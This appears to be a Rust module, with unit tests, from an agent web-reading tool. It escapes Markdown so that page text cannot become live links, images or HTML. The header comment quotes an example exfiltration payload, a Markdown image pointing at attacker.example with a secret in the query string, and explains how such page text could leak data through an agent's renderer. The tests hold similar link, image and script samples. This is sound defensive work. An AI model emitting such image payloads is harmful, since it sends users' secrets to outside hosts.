//! Page text made inert: in Markdown output the page's own words come out as
//! the characters they are, never as a link, an image, raw HTML, a heading
//! or a list the page did not have (issue #11: text such as
//! `![x](https://attacker.example/?q=SECRET)` in a paragraph must not become
//! an image an agent's renderer loads). Plain text keeps its characters but
//! loses the few sequences that would form a link, an image or HTML if an
//! agent rendered it as Markdown.
//!
//! Escaping follows CommonMark's backslash escapes and is done only where a
//! character would be markup, so ordinary prose stays readable: `[`, `]`,
//! `*`, `` ` ``, `~`, `<` and `\` always; `_` at the edge of a word (inside
//! `snake_case` it cannot open emphasis); `&` only where it could start an
//! entity; `#`, `>`, `-`, `+`, `=` and `1.` only at the start of a line.

/// Appends `word` (a run without white space) to `out`, escaped for
/// Markdown.
///
/// `line_start`: the word begins a line, where `#`, `>`, `-`, `1.` open
/// blocks. `open_end`: the next character written may follow with no space
/// in between (the word ends its text node), so an edge character must be
/// escaped as if anything could follow.
pub(crate) fn escape_word(word: &str, line_start: bool, open_end: bool, out: &mut String) {
    let chars: Vec<char> = word.chars().collect();
    let first = chars.first().copied();
    // A line that is only `-`, `+` or `=` is a list marker, a thematic break
    // or a setext underline; escaping its first character defuses all three.
    let block_marker = line_start
        && match first {
            Some('#' | '>') => true,
            Some(c @ ('-' | '+' | '=')) => chars.iter().all(|&d| d == c),
            _ => false,
        };
    // `1.` or `1)` alone at the start of a line opens an ordered list.
    let ordered_marker = line_start && is_ordered_marker(&chars);
    for (i, &c) in chars.iter().enumerate() {
        let prev = if i == 0 { None } else { Some(chars[i - 1]) };
        let next = chars.get(i + 1).copied();
        let escape = match c {
            '\\' | '[' | ']' | '*' | '`' | '~' | '<' => true,
            '_' => {
                !(prev.is_some_and(char::is_alphanumeric)
                    && next.is_some_and(char::is_alphanumeric))
            }
            '&' => could_be_entity(&chars[i + 1..], open_end),
            '.' | ')' => ordered_marker && i == chars.len() - 1,
            _ => block_marker && i == 0,
        };
        if escape {
            out.push('\\');
        }
        out.push(c);
    }
}

/// Text such as an image's alt text, escaped for use inside a line.
pub(crate) fn escape_inline(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 8);
    for (i, word) in s.split(' ').enumerate() {
        if i > 0 {
            out.push(' ');
        }
        escape_word(word, false, true, &mut out);
    }
    out
}

/// Whether a line-start word is a run of digits followed by `.` or `)`.
fn is_ordered_marker(chars: &[char]) -> bool {
    let Some((last, digits)) = chars.split_last() else {
        return false;
    };
    matches!(last, '.' | ')')
        && !digits.is_empty()
        && digits.len() <= 9
        && digits.iter().all(char::is_ascii_digit)
}

/// Whether `&` followed by `rest` could read as an entity (`&lt;`,
/// `&#60;`): a name then `;`, or a name cut by the end of the text node,
/// where the next node could supply the rest.
fn could_be_entity(rest: &[char], open_end: bool) -> bool {
    let name = rest
        .iter()
        .take_while(|c| c.is_ascii_alphanumeric() || **c == '#')
        .count();
    match rest.get(name) {
        Some(';') => true,
        Some(_) => false,
        None => open_end,
    }
}

/// Plain text with the sequences that make links, images and HTML in
/// Markdown defused: `](` (an inline link or image), `]:` (a link reference
/// definition, without which `[x][y]` and `[x]` stay text) and `<` before a
/// letter, `/`, `!` or `?` (a tag, a comment or an autolink) get a backslash.
/// Everything else is left as the characters it is.
pub(crate) fn defuse_text(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut backslashes = 0usize;
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        let next = chars.peek().copied();
        let live = match c {
            ']' => matches!(next, Some('(' | ':')),
            '<' => next.is_some_and(|n| n.is_ascii_alphabetic() || matches!(n, '/' | '!' | '?')),
            _ => false,
        };
        // An odd run of backslashes before it already escapes it; an even
        // run escapes itself and leaves it live.
        if live && backslashes.is_multiple_of(2) {
            out.push('\\');
        }
        backslashes = if c == '\\' { backslashes + 1 } else { 0 };
        out.push(c);
    }
    out
}

/// A URL as a Markdown link destination: nothing in it can end the
/// destination early (`)`, a space), escape (`\\`) or split a table cell (`|`).
pub(crate) fn escape_url(url: &str) -> String {
    let mut out = String::with_capacity(url.len());
    for c in url.chars() {
        match c {
            ' ' => out.push_str("%20"),
            '(' => out.push_str("%28"),
            ')' => out.push_str("%29"),
            '<' => out.push_str("%3C"),
            '>' => out.push_str("%3E"),
            '\\' => out.push_str("%5C"),
            '|' => out.push_str("%7C"),
            _ => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn word(w: &str, line_start: bool) -> String {
        let mut out = String::new();
        escape_word(w, line_start, false, &mut out);
        out
    }

    #[test]
    fn link_and_image_syntax_is_escaped_anywhere() {
        assert_eq!(
            word("![x](https://a.example/?q=S)", false),
            r"!\[x\](https://a.example/?q=S)"
        );
        assert_eq!(word("<img", false), r"\<img");
        assert_eq!(word("*bold*", false), r"\*bold\*");
        assert_eq!(word("`code`", false), r"\`code\`");
        assert_eq!(word(r"a\b", false), r"a\\b");
    }

    #[test]
    fn block_markers_are_escaped_only_at_line_start() {
        assert_eq!(word("#", true), r"\#");
        assert_eq!(word("#tag", false), "#tag");
        assert_eq!(word(">", true), r"\>");
        assert_eq!(word("-", true), r"\-");
        assert_eq!(word("---", true), r"\---");
        assert_eq!(word("-5", true), "-5");
        assert_eq!(word("===", true), r"\===");
        assert_eq!(word("12.", true), r"12\.");
        assert_eq!(word("3)", true), r"3\)");
        assert_eq!(word("12.", false), "12.");
        assert_eq!(word("1.5", true), "1.5");
    }

    #[test]
    fn underscores_inside_words_stay() {
        assert_eq!(word("snake_case_name", false), "snake_case_name");
        assert_eq!(word("_em_", false), r"\_em\_");
        assert_eq!(word("__init__", false), r"\_\_init\_\_");
    }

    #[test]
    fn ampersands_are_escaped_only_where_they_could_start_an_entity() {
        assert_eq!(word("&lt;script&gt;", false), r"\&lt;script\&gt;");
        assert_eq!(word("R&D", false), "R&D");
        let mut out = String::new();
        escape_word("R&D", false, true, &mut out);
        assert_eq!(out, r"R\&D", "the next node could add `;`");
        assert_eq!(word("&", false), "&");
    }

    #[test]
    fn plain_text_keeps_its_characters_but_no_link_syntax() {
        assert_eq!(
            defuse_text("see ![x](https://a.example/) and [r]: http://b"),
            r"see ![x\](https://a.example/) and [r\]: http://b"
        );
        assert_eq!(
            defuse_text("<script> a < b, <https://x>"),
            r"\<script> a < b, \<https://x>"
        );
        assert_eq!(defuse_text(r"[x\](y)"), r"[x\](y)", "already escaped");
        assert_eq!(
            defuse_text(r"[x\\](y)"),
            r"[x\\\](y)",
            "an escaped backslash"
        );
        assert_eq!(defuse_text("plain [text] (here)"), "plain [text] (here)");
    }
}
